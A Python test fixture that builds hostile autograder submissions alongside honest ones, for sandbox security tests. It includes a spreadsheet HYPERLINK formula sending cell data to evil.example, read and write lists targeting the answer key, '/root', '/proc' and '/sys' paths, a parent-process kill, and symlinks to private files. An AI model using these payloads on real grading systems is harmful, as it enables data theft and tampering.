"""A class of submissions with attackers among honest learners (issue 13), built at test time."""

from __future__ import annotations

import json
import os
from pathlib import Path

from tests.homework import builders as hw

from . import attacks

#: a value no option is near: an answer the hijacker forces on its victims
BAD_VALUE = -12345.0


def _own_roots(scratch: Path) -> list[str]:
    return [str((scratch / "tmp").resolve()), str(scratch / "run"), str(scratch / "home")]


def write_class(scratch: Path, subs: Path, key: Path, out: Path, *, victims: int = 3) -> dict:
    """Write the class into ``subs``; return ``{file name: what must hold}`` for the tests."""
    sol = hw.solution()
    roots = _own_roots(scratch)
    marker = scratch / "canary" / "PWNED-forkserver.txt"
    expect: dict[str, dict] = {}

    def notebook(name: str, cells: list[str], after: int | None = None, kernel=None, **what):
        nb = sol
        for source in cells:
            nb = hw.insert_code(nb, source, after=after)
        if kernel:  # the notebook asks for another kernel: the grader runs python3 anyway
            nb.metadata["kernelspec"] = {"name": kernel, "display_name": kernel}
        hw.write(nb, subs / name)
        expect[name] = what

    # honest learners, slowed down so that attackers run while they do
    for i in range(victims):
        name = f"a{2 * i + 1:02d}_victim.ipynb"
        notebook(name, [attacks.sleep(10)], status="graded", score=6.0)
    notebook("a02_hijacker.ipynb", [attacks.hijack(roots, BAD_VALUE)], status="graded", score=6.0)
    notebook(
        "a04_forkserver.ipynb",
        [attacks.forkserver(roots, marker, key)],
        status="graded",
        score=6.0,
    )
    other_work = str((scratch / "tmp").resolve())
    reads = [
        str(key),
        str(key.parent),
        str(scratch / "private" / "root-only.txt"),
        str(subs / "a01_victim.ipynb"),
        str(subs),
        str(out),
        str(out / "gradebook.sqlite"),
        other_work,
        str(scratch / "home"),
        "/root",
        "/proc/1/root/etc/hostname",
    ]
    writes = [
        str(out / "grades.csv"),
        str(out / "gradebook.sqlite"),
        str(subs / "zz_planted.json"),
        str(scratch / "canary" / "keep.txt"),
        str(key),
        "/proc/sys/kernel/hostname",
        "/sys/power/state",
    ]
    notebook("a06_reader.ipynb", [attacks.reader(reads, writes)], status="graded", score=6.0)
    notebook("a08_escapes.ipynb", [attacks.escapes()], status="graded", score=6.0)
    absurd = (
        "import numpy as np\n"
        "answer('q1', 10**4000)\nanswer('q2', float('inf'))\nanswer('q3', 'nan')\n"
        "answer('q4', -1e308)\nanswer('q5', np.longdouble(7.6))\n"
    )
    nb = hw.insert_code(sol, attacks.hostile_records())
    nb = hw.insert_code(nb, absurd, after=len(nb.cells) - 1)
    hw.write(nb, subs / "a10_absurd.ipynb")
    # q6 keeps its right answer; the others are invalid, flagged, and worth nothing
    expect["a10_absurd.ipynb"] = {
        "status": "graded",
        "score": 1.0,
        "flags": {"invalid_answer", "bad_records"},
    }
    notebook(
        "a12_killer.ipynb",
        ["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nprint('still here')"],
        kernel="bash-outside-the-sandbox",
        status="graded",
        score=6.0,
    )
    notebook(
        "a14_closer.ipynb",
        ["import os\nos.closerange(0, 1000)"],
        after=hw.answer_cell(sol, "q3"),
        status="crashed",
        score=3.0,
        in_reason="it did not reach",  # its own death, not the memory cap
    )
    _forms(scratch, subs, key, expect)
    return expect


def _forms(scratch: Path, subs: Path, key: Path, expect: dict) -> None:
    right = {q: e["value"] for q, e in json.loads(key.read_text())["answers"].items()}
    # claims to be the first victim: must not take over her row or feedback page
    hw.form_json(subs / "f1_claims.json", {"q1": 1}, student="a01_victim")
    expect["f1_claims.json"] = {"status": "graded", "score": 0.0, "student": "f1_claims"}
    (subs / "f2_formula.csv").write_text(
        'question,value\nq1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n'
        f"q2,{right['q2']}\n"
    )
    expect["f2_formula.csv"] = {"status": "graded", "score": 1.0, "flags": {"invalid_answer"}}
    (subs / "f3_digits.csv").write_text(f"question,value\nq1,{'9' * 4001}\nq2,{right['q2']}\n")
    expect["f3_digits.csv"] = {"status": "graded", "score": 1.0, "flags": {"invalid_answer"}}
    (subs / "f4_digits.json").write_text(
        '{"q1": ' + "7" * 5000 + ', "q2": ' + json.dumps(right["q2"]) + "}"
    )
    expect["f4_digits.json"] = {"status": "graded", "score": 1.0, "flags": {"invalid_answer"}}
    os.symlink(key, subs / "f5_link.json")
    expect["f5_link.json"] = {"status": "invalid_form", "score": 0.0, "in_reason": "symbolic link"}
    os.symlink(scratch / "private" / "root-only.txt", subs / "f6_link.ipynb")
    expect["f6_link.ipynb"] = {
        "status": "invalid_notebook",
        "score": 0.0,
        "in_reason": "symbolic link",
    }
    os.mkfifo(subs / "f7_fifo.csv")
    expect["f7_fifo.csv"] = {
        "status": "invalid_form",
        "score": 0.0,
        "in_reason": "not a regular file",
    }
